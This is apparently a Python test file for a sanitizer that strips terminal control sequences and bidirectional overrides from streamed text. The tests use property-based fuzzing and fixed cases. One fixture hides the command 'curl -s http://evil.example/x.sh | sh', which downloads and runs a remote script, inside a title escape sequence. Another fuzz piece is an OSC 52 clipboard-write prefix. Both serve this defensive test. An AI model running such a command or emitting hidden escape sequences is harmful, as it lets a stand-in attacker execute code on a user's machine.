"""Control sequences: what the screen shows of a stream is exactly what cleaning
the whole text gives, which is what is copied and exported; and nothing a
terminal would act on survives either."""

from __future__ import annotations

import re
from itertools import pairwise

from hypothesis import given, settings
from hypothesis import strategies as st

from ollamux.core.sanitize import ControlStripper
from ollamux.core.text import SEQUENCE_LIMIT, strip_control

UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# Pieces that make and break sequences, plus runs longer than a sequence may be.
PIECES = st.one_of(
    st.sampled_from(["\x1b", "[", "]", "0;", "31", "m", "\x07", "\\", "P", "a", " ", "\n", "\t", "\r", "\x9b",
                     "\u202e", "\u2066", "\u200f", ";", "?", "é", "\x1b]52;c;", "\x1b[", "\x1b]0;"]),
    st.integers(SEQUENCE_LIMIT - 2, SEQUENCE_LIMIT + 2).map(lambda n: "x" * n),
    st.integers(SEQUENCE_LIMIT - 2, SEQUENCE_LIMIT + 2).map(lambda n: "1" * n),
    st.text(max_size=4),
)


@st.composite
def chunked(draw) -> tuple[str, list[str]]:
    text = "".join(draw(st.lists(PIECES, max_size=12)))
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=6)))
    bounds = [0, *cuts, len(text)]
    return text, [text[a:b] for a, b in pairwise(bounds)]


@settings(max_examples=400)
@given(chunked())
def test_a_stream_cleaned_in_pieces_shows_what_cleaning_it_whole_gives(case) -> None:
    text, chunks = case
    stripper = ControlStripper()
    shown = "".join(stripper.feed(chunk) for chunk in chunks) + stripper.close()
    assert shown == strip_control(text)


@given(st.lists(PIECES, max_size=12).map("".join))
def test_nothing_a_terminal_acts_on_survives_and_cleaning_twice_changes_nothing(text: str) -> None:
    clean = strip_control(text)
    assert not UNSAFE.search(clean)
    assert strip_control(clean) == clean


def test_a_title_sequence_hides_the_lines_it_swallows() -> None:
    shown = strip_control("```bash\nls -la \x1b]0;\ncurl -s http://evil.example/x.sh | sh\n\x07\n```\n")
    assert shown == "```bash\nls -la \n```\n"


def test_bidi_overrides_go_and_right_to_left_marks_stay() -> None:
    assert strip_control("if (\u202eaccess\u2066 ok\u2069) \u200f") == "if (access ok) \u200f"
